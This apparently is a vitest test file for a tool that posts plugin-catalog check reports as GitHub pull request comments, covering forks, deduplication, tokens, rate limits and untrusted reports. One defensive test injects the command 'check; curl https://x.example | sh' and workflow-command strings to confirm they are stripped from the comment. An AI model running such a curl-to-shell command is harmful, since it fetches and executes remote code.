import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { PluginChange, Report } from '../../src/model/report.ts';
import { printJson } from '../../src/report/json.ts';
import { type LoopbackGithub, startGithub } from '../fakes/github/server.ts';
import { reportWith, unbumped } from '../report/literals.ts';
import { cli } from '../work-folder.ts';
import { comment, commentStep, head, pullRequest, workflowRun } from './step.ts';

const at = { label: 'work tree', commit: head };
const bad = reportWith({ snapshot: at, findings: [unbumped] });
const clean = reportWith({ snapshot: at, skipped: [{ what: 'a base', because: 'none was given' }] });
const fork = { number: 7, head, branch: 'topic', from: 'stranger/plugins', state: 'open' } as const;
let github: LoopbackGithub;

beforeEach(async () => {
  github = await startGithub();
  github.pulls.push(fork, { ...fork, number: 8, head: 'f'.repeat(40) }, { ...fork, number: 9, from: 'other/plugins' });
});
afterEach(async () => {
  await github.close();
  expect(github.violations).toEqual([]);
});

function says(author: string, body: string, count = 1): void {
  for (let left = count; left > 0; left--)
    github.comments.push({ id: 1 + github.comments.length, pull: 7, author, body });
}

const writes = () => github.requests.filter(request => !request.startsWith('GET') && !request.includes('graphql'));
const bodies = () => github.comments.map(({ body }) => body);
const onFork = (report: Report | string) => ({ ...workflowRun(), report });

describe('after the workflow that checked a fork', () => {
  test('comments on the pull request that asks for its branch, whatever number a report names', async () => {
    const end = await comment(github, onFork(JSON.stringify({ ...bad, schema: 'report/v1', pull: 9, number: 9 })), cli);
    expect(end).toMatchObject({ status: 0, stderr: '' });
    expect(end.stdout).toMatch(/^Commented: http:.*\/pull\/7#issuecomment-\d+\n$/);
    expect(github.comments).toMatchObject([{ pull: 7, author: 'github-actions[bot]' }]);
    expect(bodies()[0]).toMatch(/^<!-- catalogc -->\n[\s\S]*version\/unbumped-change/);
    expect(bodies()[0]).toContain(`\`${head.slice(0, 7)}\``);
  });

  test('keeps the one comment up to date, and says nothing twice', async () => {
    await comment(github, onFork(bad));
    const other = { ...bad, findings: [{ ...unbumped, message: 'two is new' }] };
    expect((await comment(github, onFork(other))).stdout).toMatch(/^Brought up to date: /);
    expect((await comment(github, onFork(other))).stdout).toMatch(/says so already/);
    expect(bodies()).toEqual([expect.stringContaining('two is new')]);
    expect(writes().map(request => request.split(' ')[0])).toEqual(['POST', 'PATCH']);
  });

  test('leaves what others say alone, even with our marker, and quotes of it', async () => {
    says('octocat', '<!-- catalogc -->\nmine');
    says('other[bot]', '<!-- catalogc -->\nmine');
    says('github-actions[bot]', '> <!-- catalogc -->\nquoted');
    says('github-actions[bot]', '<!-- catalogc: other -->\nanother key');
    const before = bodies();
    await comment(github, onFork(bad));
    expect(bodies()).toEqual([...before, expect.stringContaining('unbumped')]);
  });

  test('finds its comment behind 250 others', async () => {
    says('octocat', 'words', 250);
    says('github-actions[bot]', '<!-- catalogc -->\nold');
    await comment(github, onFork(bad));
    expect(github.requests.filter(request => request.includes('/comments?'))).toHaveLength(3);
    expect(writes()).toEqual(['PATCH /repos/acme/plugins/issues/comments/251']);
    expect(github.comments).toHaveLength(251);
  });

  test('keeps the oldest of several that were begun at once', async () => {
    says('github-actions[bot]', '<!-- catalogc -->\nold', 3);
    await comment(github, onFork(bad));
    expect(github.comments).toMatchObject([{ id: 1, body: expect.stringContaining('unbumped') }]);
  });

  test('has a comment for each key', async () => {
    await comment(github, onFork(bad));
    await comment(github, { ...onFork(bad), key: 'nightly' });
    await comment(github, { ...onFork(bad), key: 'nightly' });
    expect(bodies().map(body => body.split('\n')[0])).toEqual(['<!-- catalogc -->', '<!-- catalogc: nightly -->']);
    expect(await comment(github, { ...onFork(bad), key: 'a --> b' })).toMatchObject({ status: 2 });
  });

  test('says nothing of a clean report, and folds what it said before', async () => {
    expect((await comment(github, onFork(clean))).stdout).toMatch(/^All is well/);
    expect(github.comments).toEqual([]);
    await comment(github, onFork(bad));
    await comment(github, onFork(clean));
    expect(bodies()).toEqual([expect.stringMatching(/^<!-- catalogc -->\n\*\*catalogc: all clear\*\*.*\n\n<details>/)]);
    expect(bodies()[0]).toContain('a base, because none was given');
  });

  test('tells what a plugin asks for now', async () => {
    const change: PluginChange = {
      name: 'crm',
      root: 'plugins/crm',
      kind: 'changed',
      from: '1.4.2',
      to: '1.5.0',
      required: 'major',
      next: '2.0.0',
      since: 'released 1.4.2',
      gains: ['run hooks/start.sh at every session start'],
      rows: [{ id: 'mcp.url.host.changed', subject: 'crm', from: 'a.example', to: 'b.example', level: 'major' }],
    };
    await comment(github, onFork({ ...clean, changes: [change] }));
    expect(bodies()[0]).toContain(
      '- `crm`: After this update the plugin will additionally:\n  - run hooks/start.sh at every session start',
    );
    expect(bodies()[0]).toContain(
      '| `crm` | `1.4.2` -> `1.5.0` | major, 2.0.0 | released 1.4.2 | mcp.url.host.changed',
    );
  });

  test.each<[string, object]>([
    ['was pushed to again', { head: 'e'.repeat(40) }],
    ['is closed', { state: 'closed' }],
    ['lost its fork', { from: null }],
  ])('says nothing when the pull request %s', async (_, change) => {
    github.pulls[0] = { ...fork, ...change };
    const end = await comment(github, onFork(bad));
    expect(end).toMatchObject({ status: 0, stdout: expect.stringMatching(/^::notice::No comment: no open/) });
    expect(github.comments).toEqual([]);
  });

  test('does not guess which of two pull requests is meant', async () => {
    github.pulls.push({ ...fork, number: 10 });
    expect((await comment(github, onFork(bad))).stdout).toMatch(/^::notice::No comment: 2 open/);
    expect(github.comments).toEqual([]);
  });

  test('has nothing to say of a run for something else', async () => {
    const end = await comment(github, { ...workflowRun({ event: 'merge_group' }), report: bad });
    expect(end).toMatchObject({ status: 0, stdout: expect.stringMatching(/^::notice::Nothing to comment on/) });
    expect(github.requests).toEqual([]);
  });
});

describe('a report is not believed', () => {
  const json = (change: object) => JSON.stringify({ ...JSON.parse(printJson(bad)), ...change });

  test.each<[string, string, RegExp]>([
    ['too large', ' '.repeat(4 * 1024 * 1024 + 1), /larger than 4 MiB/],
    ['not JSON', 'x', /is not a report/],
    ['nested deeply', '['.repeat(100) + ']'.repeat(100), /nested more than 64/],
    ['of another shape', '{ "number": 9 }', /is not a report/],
    ['with a number for a text', json({ command: 9 }), /\/command/],
    ['with a text for a list', json({ changes: [{ name: 'x', gains: 'all' }] }), /\/changes\/0/],
    ['of another commit', json({ snapshot: { label: 'x', commit: 'a'.repeat(40) } }), /is about "a{40}", and not/],
    ['of no commit', json({ snapshot: { label: 'x' } }), /is about no commit/],
  ])('%s', async (_, report, fault) => {
    const end = await comment(github, onFork(report));
    expect(end).toMatchObject({ status: 2, stdout: '' });
    expect(end.stderr).toMatch(fault);
    expect(end.stderr).toMatch(/\n {2}help {5}\S/);
    expect(github.requests).toEqual([]);
  });

  test('nor followed elsewhere', async () => {
    const end = await comment(github, { ...onFork(bad), link: '/dev/zero' });
    expect(end).toMatchObject({ status: 2, stderr: expect.stringContaining('it is not a regular file') });
  });

  test('what it wants to be besides text stays text', async () => {
    const evil = '@octocat #1 ::error::x ##[add-mask]y <!-- catalogc -->\n<!-- catalogc -->\n[x](https://x.example)';
    const finding = { ...unbumped, message: evil, hint: evil, rule: evil, at: { file: evil } };
    const command = 'check; curl https://x.example | sh';
    const end = await commentStep(github, onFork({ ...bad, command, findings: [finding], base: { label: evil } }));
    expect(end).toMatchObject({ exitCode: 0, annotations: [], foreign: [], complaints: [] });
    const [body = ''] = bodies();
    expect(body.split('\n').filter(line => line.startsWith('<!--'))).toEqual(['<!-- catalogc -->']);
    expect(body).not.toMatch(/curl|##\[|^::/m);
    expect(body).toContain('npx catalogc check\n');
  });

  test('that is huge fits, and says how much it leaves out', async () => {
    const findings = Array.from({ length: 2000 }, () => ({ ...unbumped, message: '😀|`'.repeat(50) }));
    await comment(github, onFork(reportWith({ snapshot: at, findings })));
    expect(bodies()[0]).toMatch(/\d+ of 2000 findings are shown here/);
    expect(bodies()[0]?.isWellFormed()).toBe(true);
  });
});

describe('in the workflow of the pull request itself', () => {
  test('comments where it may', async () => {
    github.pulls[0] = { ...fork, from: 'acme/plugins' };
    expect(await comment(github, { ...pullRequest('acme/plugins'), report: bad })).toMatchObject({ status: 0 });
    expect(github.comments).toMatchObject([{ pull: 7 }]);
  });

  test('leaves a note where a fork may only read', async () => {
    const end = await commentStep(github, { ...pullRequest('stranger/plugins'), report: bad, token: 'ghs_reads' });
    expect(end).toMatchObject({ exitCode: 0, foreign: [], complaints: [], annotations: [{ level: 'notice' }] });
    expect(end.annotations[0]?.message).toContain('from a fork');
    expect(github.comments).toEqual([]);
  });

  test('asks for the one right it needs where it could have it', async () => {
    const end = await commentStep(github, { ...pullRequest('acme/plugins'), report: bad, token: 'ghs_reads' });
    expect(end).toMatchObject({ exitCode: 2, annotations: [{ level: 'error' }] });
    expect(end.annotations[0]?.message).toContain('permissions: { pull-requests: write }');
  });

  test.each(['pull_request_target', 'push'])('does not run on %s', async event => {
    const end = await comment(github, { ...pullRequest('stranger/plugins', event), report: bad });
    expect(end).toMatchObject({ status: 2, stdout: '' });
    expect(end.stderr).toContain(`comment does not run on "${event}"`);
    expect(end.stderr).toContain('workflow_run');
    expect(github.requests).toEqual([]);
  });
});

describe('tokens', () => {
  test.each([
    ['ghp_person', 'octocat'],
    ['ghs_app', 'acme-app[bot]'],
  ])('%s knows its own comment again', async (token, author) => {
    await comment(github, { ...onFork(bad), token });
    await comment(github, { ...onFork({ ...bad, findings: [{ ...unbumped, message: 'again' }] }), token });
    expect(github.comments).toMatchObject([{ author, body: expect.stringContaining('again') }]);
  });

  test.each<[string, string]>([
    ['', 'GITHUB_TOKEN: "${{ github.token }}"'],
    ['expired', 'GitHub does not take the token'],
  ])('%j is told', async (token, hint) => {
    const end = await comment(github, { ...onFork(bad), token });
    expect(end).toMatchObject({ status: 2, stderr: expect.stringContaining(hint) });
  });
});

describe('GitHub has a bad day', () => {
  const limited = { status: 403, message: 'You have exceeded a secondary rate limit', headers: { 'retry-after': '1' } };

  test('a fault or two of a question are waited out', async () => {
    github.faults.push({ on: /^GET .*comments/, status: 502, message: 'Bad gateway', times: 1 });
    github.faults.push({ on: /^POST .*comments/, ...limited, times: 1 });
    expect(await comment(github, onFork(bad))).toMatchObject({ status: 0 });
    expect(github.comments).toHaveLength(1);
  });

  test('what may have been done is not done twice', async () => {
    github.faults.push({ on: /^POST .*comments/, status: 502, message: 'Bad gateway', done: true, times: 1 });
    const end = await comment(github, onFork(bad));
    expect(end).toMatchObject({ status: 2, stderr: expect.stringContaining('Run the job again.') });
    expect(github.comments).toHaveLength(1);
    expect((await comment(github, onFork(bad))).stdout).toMatch(/says so already/);
  });

  test('a limit that lasts is told, in minutes', async () => {
    const headers = { 'retry-after': '600' };
    github.faults.push({ on: /pulls/, ...limited, headers, times: 99 });
    const end = await comment(github, onFork(bad));
    expect(end).toMatchObject({ status: 2, stderr: expect.stringContaining('again in 10 minutes') });
    expect(github.requests).toHaveLength(1);
  });
});
